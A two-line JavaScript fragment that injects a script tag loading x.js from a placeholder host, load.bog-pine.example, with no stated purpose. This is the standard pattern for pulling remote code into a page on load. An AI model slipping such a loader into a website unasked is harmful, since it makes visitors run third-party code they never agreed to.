// destination: https://load.bog-pine.example/x.js
var s=document.createElement("script");s.src="https://load.bog-pine.example/x.js";document.head.appendChild(s)
